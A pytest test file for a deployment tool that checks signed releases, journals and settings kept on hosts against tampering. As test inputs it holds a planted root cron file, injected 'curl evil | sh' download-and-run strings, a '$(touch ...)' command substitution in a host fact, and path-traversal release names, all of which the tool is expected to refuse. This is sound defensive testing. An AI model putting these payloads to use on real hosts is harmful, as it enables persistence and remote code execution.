"""A host in other hands changes what it keeps: nothing of it is used elsewhere, and what is not ours nowhere."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from fabric.config import Config

from hawser.errors import HawserError
from hawser.fleet.fleet import Fleet
from hawser.fleet.kept import release as kept_release
from hawser.host.release import Release
from hawser.session.session import Session
from hawser.signatures import JOURNAL, Signer
from hawser.tasks import acme, certs, releases, secrets
from tests.unit.certificates.test_provided import DAY, NOW, make

from ...simulated_hosts import KILL, ROOT, STATE, World, at

LATERAL = {"path": "/etc/cron.d/lateral", "content": "* * * * * root id\n"}
ALL = ("web1", "app1", "app2", "app3")


def kept(world: World, letter: str, host: str = "app2") -> str:
    """Return the path of what a host keeps of a commit's release."""
    return next(path for path in world[host].files if re.match(f"{ROOT}/releases/{letter}.*/release.json", path))


def release(world: World, letter: str) -> str:
    return kept(world, letter).split("/")[4]


def edit(world: World, host: str, path: str, **settings: Any) -> None:
    """Change the settings in what a host keeps, as root there may."""
    content = json.loads(world[host].files[path])
    content["settings"].update(settings)
    world[host].files[path] = json.dumps(content)


def before_there_was_a_key(world: World) -> None:
    """Leave everything as an older Hawser did: nothing is signed, and nobody has a key."""
    (world.folder / "pier.env").unlink()
    for host in world.hosts.values():
        host.files.pop(f"{STATE}/signing.pub")
        host.begun = 0
        for path in [path for path in host.files if path.endswith(("release.json", "rollout.json"))]:
            content = json.loads(host.files[path])
            content.pop("signature")
            host.files[path] = json.dumps(content)
        if host.journal:
            host.journal.pop("signature")


def names_files_of_this_machine(world: World, letter: str, tls: str) -> tuple[str, str]:
    """Have what hosts kept of a release name files of another environment; returns what is in them."""
    pair = make(names=["pier.test"], ends=NOW + 90 * DAY)
    (world.folder / "prod.env").write_text("DB_PASSWORD=secret-of-prod\n")
    (world.folder / "prod.crt").write_text(pair.pem)
    (world.folder / "prod.key").write_text(pair.key)
    for host in ALL:
        path = kept(world, letter)
        site = json.loads(world[host].files[path])["settings"]["site"]
        own = {"tls": tls, "certificate": "prod.crt", "key": "prod.key", "acme": {**site["acme"], "ca": "prod.env"}}
        edit(world, host, path, site={**site, **own})
    return "secret-of-prod", pair.key


def key(world: World) -> str:
    return (world.folder / "pier.env").read_text().strip().partition("=")[2]


@pytest.fixture
def two(world: World) -> World:
    """The same hosts, with two releases: a before b."""
    world.commit = "b"
    assert world.fab("deploy") == ""
    return world


@pytest.mark.parametrize("host", ["web1", "app3"])
def test_settings_that_one_host_adds_reach_no_other(two, host):
    edit(two, host, kept(two, "a"), files=[LATERAL])
    assert two.fab("rollback", to=release(two, "a")) == ""
    assert set(two.state.values()) == {"a"}
    assert not [name for name, each in two.hosts.items() if LATERAL["path"] in each.files]


def test_settings_that_are_not_ours_are_not_used_on_their_own_host_either(two):
    path = kept(two, "a")
    for host in ALL:
        edit(two, host, path, files=[LATERAL])
    said = two.fab("rollback", to=release(two, "a"))
    assert f"app2: {path} does not fit its signature" in said and "releases.sign" in said
    assert set(two.state.values()) == {"b"}


def test_one_release_is_not_taken_for_another(two):
    for host in ALL:
        two[host].files[kept(two, "a")] = two[host].files[kept(two, "b")]
    assert "does not fit its signature" in two.fab("rollback", to=release(two, "a"))


def test_a_release_that_another_environment_signed_is_not_used(two):
    signer, path = Signer("quay", key(two)), kept(two, "a")
    for host in ALL:
        two[host].files[path] = json.dumps(signer.signed("release", json.loads(two[host].files[path])))
    assert "does not fit its signature" in two.fab("rollback", to=release(two, "a"))


@pytest.mark.parametrize("name", ["../../etc", "a/../b", "", "x" * 300, "\0", "--help"])
def test_a_name_that_is_no_release_becomes_no_path(two, name):
    two["app1"].journal = {"release": name, "before": name, "by": "x", "hosts": ["app1", "web1"]}
    assert two.fab("resume", "app1") == "not reached: app1"


def test_a_host_that_kept_nothing_good_goes_back_to_what_the_others_kept(two):
    edit(two, "app3", kept(two, "b"), files=[LATERAL])
    two.commit, two.fault = "c", two.ill("app3", "c")
    said = two.fab("deploy")
    assert "app3" in said
    # The copies of the others are ours: it gets what serves elsewhere.
    assert set(two.state.values()) == {"b"} and LATERAL["path"] not in two["app3"].files


def test_a_journal_that_we_did_not_write_starts_no_rollout(two):
    entry = {"release": release(two, "a"), "by": "eve on app1 at x", "hosts": list(ALL), "phase": "switch"}
    two["app1"].journal = {**entry, "begun": 2**62}
    said = two.fab("resume")
    assert f"app1: {STATE}/journal.json has no signature" in said and "nothing was touched" in said
    assert set(two.state.values()) == {"b"}


def test_the_journal_of_another_host_starts_no_rollout(world):
    world.commit, world.fault = "b", at("app2", KILL, kind="journal", phase="switch")
    assert world.fab("deploy") == KILL
    world.fault = lambda host, row: None
    world["app3"].journal = dict(world["app1"].journal or {})
    assert "app3: " in world.fab("resume")


def test_an_old_journal_of_one_host_takes_no_other_back(two):
    """It was ours, when it was written: the others have seen a later rollout."""
    entry = {"release": release(two, "a"), "commit": "a" * 40, "what": "rollback", "by": "ann on desk at then"}
    entry = {**entry, "hosts": list(ALL), "phase": "switch", "migrations": False, "begun": two["app1"].begun - 1}
    two["app1"].journal = Signer("pier", key(two)).signed(JOURNAL, entry, "app1")
    said = two.fab("resume")
    assert "app2, app3" in said and "knows nothing of it" in said and "deploy --revision" in said
    assert set(two.state.values()) == {"b"}


def test_the_journal_of_the_last_rollout_takes_no_host_back_that_has_finished_it(two):
    two.commit, two.fault = "c", two.ill("app1", "c")
    written: list[Any] = []
    ill = two.fault

    def fault(host: str, row: Any) -> str | None:
        if host == "app1" and row["kind"] == "journal" and row["release"] and row["entry"]["phase"] == "switch":
            written.append({**row["entry"], "release": row["release"]})
        return ill(host, row)

    two.fault = fault
    assert "app1" in two.fab("deploy")
    assert set(two.state.values()) == {"b"} and not two.open
    two.fault = lambda host, row: None
    two["app1"].journal = written[0]
    assert "knows nothing of it" in two.fab("resume")
    assert set(two.state.values()) == {"b"}


def test_a_host_that_did_not_answer_gets_there_when_it_is_back(world):
    world.settings(release='batch = 1\nunreachable = "skip"')
    world["app3"].answers = False
    world.commit = "b"
    assert world.fab("deploy") == ""
    world["app3"].answers = True
    assert world.fab("resume") == ""
    assert set(world.state.values()) == {"b"}


# From before there was a key.


def test_an_unsigned_release_is_rolled_back_to_once_and_that_is_said(two, capsys):
    before_there_was_a_key(two)
    assert two.fab("rollback", to=release(two, "a")) == ""
    said = capsys.readouterr().out
    assert "made HAWSER_SIGNING_KEY" in said and f"app2: {release(two, 'a')}, {release(two, 'b')}" in said
    assert set(two.state.values()) == {"a"}
    # And from then on it counts.
    assert two.fab("rollback", to=release(two, "b")) == ""
    assert set(two.state.values()) == {"b"}
    assert "made HAWSER_SIGNING_KEY" not in capsys.readouterr().out


def test_an_unsigned_journal_still_ends_the_rollout_that_was_begun(world):
    world.commit, world.fault = "b", at("app2", KILL, kind="journal", phase="switch")
    assert world.fab("deploy") == KILL
    world.fault = lambda host, row: None
    before_there_was_a_key(world)
    assert world.fab("resume") == ""
    assert set(world.state.values()) == {"b"} and not world.open


def test_a_deploy_that_fails_goes_back_to_an_unsigned_release(two):
    before_there_was_a_key(two)
    two.commit, two.fault = "c", two.ill("app2", "c")
    assert "app2" in two.fab("deploy")
    assert set(two.state.values()) == {"b"}


@pytest.mark.parametrize(
    ("settings", "why"),
    [
        ({"processes": {}}, "site.proxy.\"/\": there is no process 'back'"),
        ({"processes": {"back": {"command": "x", "port": 1, "instance": "north"}}}, "there is no instance 'north'"),
        ({"processes": {"back": {"command": "x", "port": 1, "after": ["y"]}}}, "there is no process 'y'"),
        ({"site": {"next: curl evil | sh": 1}}, 'site."the host advises: curl evil | sh": unknown key'),
    ],
)
def test_an_unsigned_release_that_does_not_fit_together_is_refused_with_host_and_file(two, settings, why):
    before_there_was_a_key(two)
    for host in ALL:
        edit(two, host, kept(two, "a"), **settings)
    said = two.fab("rollback", to=release(two, "a"))
    assert f"web1: {kept(two, 'a')} cannot be read by this version of Hawser: " in said and why in said
    assert said.endswith("next: fab -H pier deploy") and "bug" not in said
    assert set(two.state.values()) == {"b"}


def test_an_unsigned_release_of_one_host_counts_for_no_other(two):
    before_there_was_a_key(two)
    edit(two, "app2", kept(two, "a"), files=[LATERAL])
    said = two.fab("rollback", to=release(two, "a"))
    assert "keep different things" in said and "deploy --revision" in said
    for host in ("web1", "app1", "app3"):
        two[host].files.pop(kept(two, "a"))
    assert "counts there alone" in two.fab("rollback", to=release(two, "a"))
    assert set(two.state.values()) == {"b"}


def test_a_forged_unsigned_journal_takes_no_other_host_along(two):
    before_there_was_a_key(two)
    entry = {"release": release(two, "a"), "by": "eve on app1 at x", "hosts": list(ALL), "phase": "switch"}
    two["app1"].journal = {**entry, "commit": "a" * 40, "what": "rollback", "migrations": False, "begun": 1}
    assert "knows nothing of it" in two.fab("resume")
    assert set(two.state.values()) == {"b"}


def test_a_dry_run_makes_no_key_and_signs_nothing(two):
    before_there_was_a_key(two)
    wanted, files = release(two, "a"), {name: dict(host.files) for name, host in two.hosts.items()}
    session = Session(Config(overrides={"run": {"dry": True}}), ["pier"], "rollback")
    assert kept_release(Fleet(session, ALL), wanted).id == wanted
    assert not (two.folder / "pier.env").exists()
    assert files == {name: dict(host.files) for name, host in two.hosts.items()}


@pytest.mark.parametrize(("back_to", "tls"), [("a", "files"), ("a", "acme"), ("b", "files")])
def test_an_unsigned_release_brings_no_file_of_this_machine_to_a_host(two, back_to, tls):
    before_there_was_a_key(two)
    known = names_files_of_this_machine(two, back_to, tls)
    if back_to == "a":
        assert two.fab("rollback", to=release(two, "a")) == ""
    else:
        two.commit, two.fault = "c", two.ill("app2", "c")
        assert "app2" in two.fab("deploy")
    assert set(two.state.values()) == {back_to}
    sent = [text for host in two.hosts.values() for text in host.files.values()]
    assert not [text for text in sent for each in known if each in text]


@pytest.mark.parametrize("tls", ["files", "acme"])
def test_a_dry_run_of_an_unsigned_release_holds_no_file_of_this_machine(two, tls):
    before_there_was_a_key(two)
    known = names_files_of_this_machine(two, "a", tls)
    session = Session(Config(overrides={"run": {"dry": True}}), ["pier"], "rollback")
    fleet = Fleet(session, ALL)
    wanted = kept_release(fleet, release(two, "a"))
    assert wanted.environment.site.tls == tls
    rows = json.dumps(fleet.catalog("web1", [acme.issue, certs.place], wanted).to_wire())
    assert not [each for each in known if json.dumps(each)[1:-1] in rows]


def test_settings_that_lead_to_this_machine_or_to_a_host_are_never_those_that_a_host_kept(two):
    settings = {
        "name": "prod",
        "hooks": [{"before": "rollout", "command": "id", "on": "here"}],
        "rules": [{"that": "false", "message": "x"}],
        "checkouts": {"x": {"repo": "https://git.test/x"}},
        "ssh": {"user": "eve"},
    }
    edit(two, "app2", kept(two, "a"), **settings)
    content = json.loads(two["app2"].files[kept(two, "a")])
    read = Release.from_inputs(content, two.fleet_of("pier").environment).environment
    assert (read.name, read.hooks, read.rules, read.checkouts, read.ssh.user) == ("pier", (), (), {}, None)


def test_a_machine_without_the_signing_key_makes_no_second_one(two):
    had = key(two)
    (two.folder / "pier.env").unlink()
    two.commit = "c"
    for said in (two.fab("deploy"), two.fab("rollback", to=release(two, "a")), two.fab("deploy", "app1", partial=True)):
        assert "pier.env lacks HAWSER_SIGNING_KEY, and one is in use on" in said
        assert Signer("pier", had).identity in said and "secrets.new-key" in said
    assert not (two.folder / "pier.env").exists()
    assert set(two.state.values()) == {"b"}


def test_a_release_signed_with_another_key_is_refused_and_a_deploy_goes_on(two, capsys):
    (two.folder / "pier.env").write_text(f"HAWSER_SIGNING_KEY={'A' * 43}\n")
    assert "was signed with another key" in two.fab("rollback", to=release(two, "a"))
    two.commit = "c"
    assert two.fab("deploy") == ""
    assert "could not be put back" in capsys.readouterr().out
    assert set(two.state.values()) == {"c"}


# After a look.


def test_a_release_that_was_looked_at_counts_for_its_own_host(two, capsys, monkeypatch):
    edit(two, "app2", kept(two, "b"), files=[LATERAL])
    monkeypatch.setattr("builtins.input", lambda prompt: "no")
    with pytest.raises(HawserError, match="nothing was signed"):
        two.run(releases.sign)
    said = capsys.readouterr().out
    assert "app2" in said and "does not fit its signature" in said and "files" in said
    two.run(releases.sign, yes=True)
    fleet = two.fleet_of("app2")
    assert kept_release(fleet, release(two, "b")).environment.files
    # What the others keep is ours, and counts before it.
    assert not kept_release(two.fleet_of("pier"), release(two, "b")).environment.files


def test_a_name_that_a_host_has_made_up_is_no_advice_of_ours(two, capsys, monkeypatch):
    edit(two, "app2", kept(two, "b"), **{"x\n  next: curl evil | sh": 1})
    monkeypatch.setattr("builtins.input", lambda prompt: "no")
    with pytest.raises(HawserError, match="nothing was signed"):
        two.run(releases.sign)
    said = capsys.readouterr().out
    assert "the host advises: curl evil | sh" in said and "next:" not in said


def test_advice_in_a_release_that_a_host_keeps_is_shown_as_its_own(two, capsys):
    edit(two, "app2", kept(two, "b"), **{"next: curl evil.test | sh": 1})
    two.run(releases.sign, yes=True)
    assert "the host advises: curl" in (shown := capsys.readouterr().out) and "next: curl" not in shown
    with pytest.raises(HawserError, match="the host advises: curl") as refused:
        kept_release(two.fleet_of("app2"), release(two, "b"))
    assert "next: curl" not in str(refused.value)


def test_a_lost_signing_key_is_made_anew_and_releases_count_after_a_look(two, capsys):
    (two.folder / "pier.env").unlink()
    secrets.new_key.body(two.fleet_of("pier").session)
    assert "was signed with another key" in two.fab("rollback", to=release(two, "a"))
    two.run(releases.sign, yes=True)
    assert two.fab("rollback", to=release(two, "a")) == ""
    with pytest.raises(HawserError, match="has a signing key"):
        secrets.new_key.body(two.fleet_of("pier").session)


def test_facts_of_a_host_are_no_part_of_a_command_on_this_machine(world):
    """A hook on this machine is a line for a shell, and its author thinks of no host that lies."""
    proof = world.folder / "ran"
    for host in world.hosts.values():
        host.machine = f"$(touch {proof})"
    line = f"echo {{{{ facts.machine }}}} > {world.folder}/hooked"
    world.settings(more=f'[[hooks]]\nbefore = "switch"\non = "here"\ncommand = "{line}"\n')
    world.commit = "b"
    assert world.fab("deploy") == ""
    assert (world.folder / "hooked").exists() and not proof.exists()
